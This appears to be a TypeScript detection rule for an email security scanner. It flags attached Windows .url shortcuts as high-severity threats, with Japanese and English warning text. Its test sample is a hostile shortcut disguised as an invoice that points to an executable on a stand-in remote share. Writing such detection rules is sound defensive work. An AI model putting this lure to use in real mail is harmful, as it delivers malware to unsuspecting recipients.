// A shortcut is attached.
import type { MailRule } from "#src/engine/mail/rule.ts";

export const fileShortcut: MailRule = {
  id: "file-shortcut",
  family: "attachment",
  severity: "high",
  title: { ja: "ショートカットが添付されています", en: "A shortcut is attached" },
  explanation: {
    ja: "押すと、見えない命令が実行されます。",
    en: "Pressing it runs commands you cannot see.",
  },
  action: "do-not-open",
  match: { kind: "signal" },
  samples: {
    match: [
      {
        attachments: [
          {
            name: "請求書.url",
            type: "application/octet-stream",
            text: "[InternetShortcut]\r\nURL=file://203.0.113.5/share/a.exe\r\n",
          },
        ],
      },
    ],
    miss: [
      {
        text: "いつもお世話になっております。見積書をお送りします。ご査収ください。",
        attachments: [
          {
            name: "案内.pdf",
            type: "application/pdf",
            base64:
              "JVBERi0xLjQKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZy9QYWdlcyAyIDAgUj4+ZW5kb2JqCjIgMCBvYmo8PC9UeXBlL1BhZ2VzL0NvdW50IDEvS2lkc1szIDAgUl0+PmVuZG9iagozIDAgb2JqPDwvVHlwZS9QYWdlL1BhcmVudCAyIDAgUj4+ZW5kb2JqCnRyYWlsZXI8PC9Sb290IDEgMCBSPj4KJSVFT0YK",
          },
        ],
      },
    ],
  },
};
